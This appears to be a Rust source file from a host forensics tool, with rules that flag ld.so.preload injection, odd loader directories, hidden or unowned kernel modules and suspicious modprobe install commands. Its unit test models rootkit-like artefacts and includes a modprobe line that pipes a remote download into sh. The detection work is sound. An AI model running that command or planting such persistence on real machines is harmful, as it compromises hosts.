//! The dynamic loader and kernel modules: ld.so.preload, ld.so.conf, hidden, unowned and install-command modules.

use super::common::*;
use super::content::*;
use crate::config::AnalysisConfig;
use crate::context::Ctx;
use crate::context::what;
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Finding, Ioc, Message};

pub(crate) fn ld_so_preload(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    ctx.ld_preload
        .iter()
        .filter(|p| !p.rec.entries.is_empty())
        .map(|p| {
            let mut iocs: Vec<Ioc> = p.rec.entries.iter().map(|e| Ioc::Path(e.clone())).collect();
            // The injected libraries' own hashes (verified by `packages`): the same payload
            // under another name still correlates across hosts.
            iocs.extend(
                p.rec
                    .entries
                    .iter()
                    .filter_map(|e| ctx.verified(e)?.rec.sha256.clone())
                    .map(Ioc::Sha256),
            );
            iocs.push(Ioc::Path(p.rec.path.clone()));
            iocs.extend(p.rec.source.sha256.clone().map(Ioc::Sha256));
            explained(
                &p.rec.path,
                Message::new("finding.loader.preload")
                    .text("file", &p.rec.path)
                    .text(
                        "libraries",
                        p.rec
                            .entries
                            .iter()
                            .map(|e| format!("`{e}`"))
                            .collect::<Vec<_>>()
                            .join(", "),
                    ),
                {
                    let mut ev = ctx.ev(
                        p,
                        what("evidence.ld-so-preload", &[("path", &p.rec.path)]),
                        Some(&p.rec.source),
                    );
                    for e in &p.rec.entries {
                        if let Some(v) = ctx.verified(e) {
                            ev.extend(ctx.ev(
                                v,
                                what("evidence.package-verify", &[("path", &e)]),
                                v.rec.copy.as_ref(),
                            ));
                        }
                    }
                    ev.dedup_by(|a, b| a.member == b.member && a.line == b.line);
                    ev
                },
                iocs,
            )
        })
        .collect()
}

pub(crate) fn ld_so_conf_unusual(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in &ctx.ld_conf {
        for d in &c.rec.dirs {
            let dir = format!("{}/", d.trim_end_matches('/'));
            if let Some(why) = unusual_location_msg(&dir) {
                out.push(explained(
                    format!("{}: {d}", c.rec.path),
                    Message::new("finding.loader.conf-dir")
                        .text("file", &c.rec.path)
                        .text("dir", d)
                        .msg("why", why),
                    ctx.ev(
                        c,
                        what("evidence.loader-configuration", &[("path", &c.rec.path)]),
                        Some(&c.rec.source),
                    ),
                    vec![Ioc::Path(d.clone()), Ioc::Path(c.rec.path.clone())],
                ));
            }
        }
    }
    out
}

pub(crate) fn kernel_module_hidden(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    ctx.modules
        .iter()
        .filter(|m| !m.rec.in_proc_modules && m.rec.initstate.is_some())
        .map(|m| {
            let msg = match m.rec.file.as_deref() {
                Some(f) => Message::new("finding.loader.module-hidden").text("file", f),
                None => Message::new("finding.loader.module-hidden-no-file"),
            };
            explained(
                &m.rec.name,
                msg.text("module", &m.rec.name)
                    .text("initstate", m.rec.initstate.as_deref().unwrap_or("?")),
                ctx.ev(
                    m,
                    what("evidence.kernel-module", &[("name", &m.rec.name)]),
                    Some(&m.rec.source),
                ),
                std::iter::once(Ioc::Path(format!("/sys/module/{}", m.rec.name)))
                    .chain(m.rec.file.clone().map(Ioc::Path))
                    .collect(),
            )
        })
        .collect()
}

pub(crate) fn kernel_module_unowned(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    // Without modules.dep no module has a file: then nothing can be said about files.
    let have_dep = ctx.modules.iter().any(|m| m.rec.file.is_some());
    let mut out = Vec::new();
    for m in ctx.modules.iter().filter(|m| m.rec.in_proc_modules) {
        let why = match &m.rec.file {
            Some(f) if !ctx.is_owned(f) => {
                Message::new("reason.module.file-unowned").text("file", f)
            }
            None if have_dep => Message::new("reason.module.not-in-modules-dep"),
            _ => continue,
        };
        // The module's name (as its /sys/module path, as kernel-module-hidden gives it) and
        // its file: either correlates across hosts.
        let mut iocs = vec![Ioc::Path(format!("/sys/module/{}", m.rec.name))];
        iocs.extend(m.rec.file.clone().map(Ioc::Path));
        let msg = if m.rec.taint.is_empty() {
            Message::new("finding.loader.module-unowned")
        } else {
            Message::new("finding.loader.module-unowned-taint").text("taint", &m.rec.taint)
        };
        out.push(explained(
            &m.rec.name,
            msg.text("module", &m.rec.name).msg("why", why),
            ctx.ev(
                m,
                what("evidence.kernel-module", &[("name", &m.rec.name)]),
                Some(&m.rec.source),
            ),
            iocs,
        ));
    }
    out
}

pub(crate) fn modprobe_install_command(
    ctx: &Ctx,
    _: &AnalysisConfig,
    _: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    for c in &ctx.module_configs {
        for cmd in &c.rec.commands {
            let why = command_pattern_msg(cmd);
            if let Some(why) = why {
                out.push(explained(
                    format!("{}: {cmd}", c.rec.path),
                    Message::new("finding.loader.modprobe-command")
                        .text("file", &c.rec.path)
                        .msg("why", why)
                        .text("command", cmd),
                    ctx.ev(
                        c,
                        what("evidence.modprobe-configuration", &[("path", &c.rec.path)]),
                        Some(&c.rec.source),
                    ),
                    vec![Ioc::ConfigLine(cmd.clone()), Ioc::Path(c.rec.path.clone())],
                ));
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::engine::analyze_records;
    use crate::testkit;
    use serde_json::json;

    #[test]
    fn kernel_rules() {
        let src = json!({"path": "/proc/modules"});
        let module = |line: usize, name: &str, extra: serde_json::Value| {
            let mut v = json!({"kind": "kernel_module", "name": name, "in_proc_modules": true, "in_sys_module": true, "line": line, "source": src});
            for (k, x) in extra.as_object().unwrap() {
                v[k] = x.clone();
            }
            (line, v)
        };
        let kernel = vec![
            (
                1,
                json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": ["/usr/lib/x86_64-linux-gnu/libkeyutils.so.9"], "source": {"path": "/etc/ld.so.preload"}}),
            ),
            (
                2,
                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/libc.conf", "dirs": ["/usr/local/lib"], "source": {"path": "/etc/ld.so.conf.d/libc.conf"}}),
            ),
            (
                3,
                json!({"kind": "ld_so_conf", "path": "/etc/ld.so.conf.d/x86.conf", "dirs": ["/var/tmp/.l"], "source": {"path": "/etc/ld.so.conf.d/x86.conf"}}),
            ),
            module(
                4,
                "ext4",
                json!({"file": "/lib/modules/6.1/kernel/fs/ext4/ext4.ko"}),
            ),
            module(
                5,
                "nvme_fix",
                json!({"file": "/lib/modules/6.1/updates/nvme_fix.ko", "taint": "OE"}),
            ),
            module(6, "rk", json!({})),
            module(
                7,
                "ghost",
                json!({"in_proc_modules": false, "initstate": "live"}),
            ),
            (
                8,
                json!({"kind": "module_config", "path": "/etc/modprobe.d/b.conf", "purpose": "modprobe", "entries": ["install pcspkr /bin/true", "install usb_storage /bin/sh -c 'curl -fsSL http://x | sh'"], "commands": ["/bin/true", "/bin/sh -c 'curl -fsSL http://x | sh'"], "source": {"path": "/etc/modprobe.d/b.conf"}}),
            ),
        ];
        let packages = vec![
            (
                1,
                json!({"kind": "package", "manager": "dpkg", "name": "linux-image", "version": "1", "source": {"path": "/var/lib/dpkg/status"}}),
            ),
            (
                2,
                json!({"kind": "package_files", "manager": "dpkg", "package": "linux-image", "files": ["/lib/modules/6.1/kernel/fs/ext4/ext4.ko"], "source": {"path": "x"}}),
            ),
            (
                3,
                json!({"kind": "package_verify", "path": "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "status": "not_owned", "sha256": "c".repeat(64), "referenced_by": ["ld.so.preload"], "copy": {"path": "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "member": "raw/usr/lib/x86_64-linux-gnu/libkeyutils.so.9", "sha256": "c".repeat(64)}}),
            ),
        ];
        let records = [
            ("kernel".to_string(), kernel),
            ("packages".to_string(), packages),
        ]
        .into_iter()
        .collect();
        let a = analyze_records(records);
        let subjects = |rule: &str| testkit::subjects(&a, rule);
        assert_eq!(subjects("ld-so-preload"), ["/etc/ld.so.preload"]);
        assert_eq!(
            subjects("ld-so-conf-unusual"),
            ["/etc/ld.so.conf.d/x86.conf: /var/tmp/.l"]
        );
        assert_eq!(subjects("kernel-module-hidden"), ["ghost"]);
        assert_eq!(subjects("kernel-module-unowned"), ["nvme_fix", "rk"]);
        assert_eq!(subjects("modprobe-install-command").len(), 1);
        // IOCs that correlate across hosts: the preloaded library's hash (with its copy as
        // evidence) and the modules' names; the library is no program run (no exec-unowned).
        use dossier_plugin_api::analysis::Ioc;
        let iocs = |rule: &str, subject: &str| -> Vec<Ioc> {
            a.findings
                .iter()
                .chain(&a.context)
                .find(|f| f.rule == rule && f.subject == subject)
                .unwrap()
                .iocs
                .clone()
        };
        let pre = iocs("ld-so-preload", "/etc/ld.so.preload");
        assert!(pre.contains(&Ioc::Sha256("c".repeat(64))), "{pre:?}");
        assert!(pre.contains(&Ioc::Path(
            "/usr/lib/x86_64-linux-gnu/libkeyutils.so.9".into()
        )));
        assert!(
            a.findings
                .iter()
                .chain(&a.context)
                .find(|f| f.rule == "ld-so-preload")
                .unwrap()
                .evidence
                .iter()
                .any(|e| e.member == "raw/usr/lib/x86_64-linux-gnu/libkeyutils.so.9")
        );
        assert!(subjects("exec-unowned").is_empty());
        assert!(iocs("kernel-module-unowned", "rk").contains(&Ioc::Path("/sys/module/rk".into())));
        assert!(
            iocs("kernel-module-unowned", "nvme_fix")
                .contains(&Ioc::Path("/lib/modules/6.1/updates/nvme_fix.ko".into()))
        );
        assert!(
            iocs("kernel-module-hidden", "ghost").contains(&Ioc::Path("/sys/module/ghost".into()))
        );

        // Offline: no module records, so the module rules are not evaluated (never clean).
        let kernel = vec![(
            1,
            json!({"kind": "ld_preload", "path": "/etc/ld.so.preload", "entries": [], "source": {"path": "/etc/ld.so.preload"}}),
        )];
        let records = [("kernel".to_string(), kernel)].into_iter().collect();
        let a = analyze_records(records);
        let ne: Vec<&str> = a.not_evaluated.iter().map(|n| n.rule.as_str()).collect();
        assert!(ne.contains(&"kernel-module-hidden"), "{ne:?}");
        assert!(a.hits.is_empty());
    }
}
